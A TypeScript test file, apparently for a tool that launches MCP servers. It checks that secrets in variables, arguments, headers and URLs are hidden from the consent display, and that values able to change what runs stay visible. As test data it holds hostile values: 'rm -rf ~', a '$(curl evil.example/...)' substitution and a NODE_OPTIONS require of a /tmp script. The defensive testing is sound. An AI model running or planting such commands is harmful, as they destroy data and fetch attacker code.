import assert from 'node:assert/strict';
import { differencesBetween } from '../../../src/consent/fingerprint.ts';
import { prepareLaunch } from '../../../src/definitions/prepareLaunch.ts';
import { prepareRemote } from '../../../src/definitions/prepareRemote.ts';
import { readDefinitions } from '../../../src/definitions/readDefinitions.ts';
import { remoteStartRequest } from '../../../src/host/remoteStartRequest.ts';
import { startRequest, type StartRequest } from '../../../src/host/startRequest.ts';
import { createTemporaryFolder } from '../../support/run/temporaryFolder.mjs';

const folder = createTemporaryFolder();
const token = 'tok-4711-s3cret-s3cret';

async function requestOf(value: object): Promise<StartRequest> {
  const [definition] = readDefinitions([{ scope: 'user', value: { it: value }, location: 'user settings' }]).definitions;
  assert.ok(definition);
  const context = { folders: [{ name: 'shop', path: folder }], userHome: folder, env: {} };
  return definition.kind === 'stdio'
    ? startRequest(await prepareLaunch(definition, { ...context, platform: 'linux', path: process.env['PATH'] ?? '', isPathFinal: true }))
    : remoteStartRequest(await prepareRemote(definition, context));
}

const local = (changes: object): Promise<StartRequest> => requestOf({ command: process.execPath, ...changes });

async function shown(changes: object): Promise<readonly (readonly [string, string])[]> {
  const { detail } = await local(changes);
  return detail.fields.filter(({ name }) => /^(args|env)/.test(name)).map(({ name, value }) => [name, value]);
}

describe('A secret in a definition', () => {
  it('is neither shown nor remembered, in a variable, a header, an argument or an address', async () => {
    const requests = await Promise.all([
      local({ env: { API_KEY: token } }),
      local({ args: ['--token', token] }),
      local({ args: [`--api-key=${token}`, '-e', `GITHUB_TOKEN=${token}`] }),
      local({ args: ['--header', `Authorization: Bearer ${token}`] }),
      requestOf({ url: `https://api.example/mcp?api_key=${token}&page=2`, headers: { Authorization: `Bearer ${token}` } }),
    ]);
    for (const { request, detail } of requests) {
      assert.ok(!JSON.stringify([request, detail]).includes(token));
      assert.ok(detail.fields.some(({ isHidden }) => isHidden === true));
      assert.ok(detail.serverId !== undefined);
    }
    const [, , , , remote] = requests;
    assert.equal(remote.detail.fields[0]?.value, 'https://api.example/mcp?api_key=(not shown)&page=2');
  });

  it('asks again when it changes, and the difference tells neither the old nor the new one', async () => {
    const cases: readonly (readonly [object, object])[] = [
      [{ env: { API_KEY: token } }, { env: { API_KEY: `${token}2` } }],
      [{ args: ['--token', token] }, { args: ['--token', `${token}2`] }],
    ];
    for (const [before, after] of cases) {
      const [old, now] = await Promise.all([local(before), local(after)]);
      assert.notEqual(old.request.fingerprint, now.request.fingerprint);
      const differences = differencesBetween(old.request.material, now.request.material);
      assert.equal(differences.length, 1);
      assert.ok(!JSON.stringify(differences).includes(token));
    }
  });

  it('is shown whole in a variable that can change what runs', async () => {
    const env = {
      GIT_CONFIG_KEY_0: 'core.sshCommand',
      NODE_OPTIONS: '--require=/tmp/token-4711-abcdef.js',
      PATH: process.env['PATH'] ?? '',
    };
    assert.deepEqual(
      await shown({ env }),
      Object.entries(env).map(([name, value]) => [`env.${name}`, value]),
    );
  });

  it('is no excuse to hide a command, a path or a package behind an option’s name', async () => {
    const args = ['--key', 'rm -rf ~', '--secret', '/tmp/evil-4711.js', '--token', 'evil-package', '--password=$(curl evil.example/4711)'];
    assert.deepEqual(
      await shown({ args }),
      args.map((value, index) => [`args[${index}]`, value]),
    );
  });

  it('is not seen in names of variables, numbers and places', async () => {
    const env = { API_KEY: '${env:MINE}', MAX_TOKENS: '8192', SSH_KEY_FILE: '/home/me/.ssh/id_ed25519' };
    assert.deepEqual(
      await shown({ env }),
      Object.entries(env).map(([name, value]) => [`env.${name}`, value]),
    );
  });
});
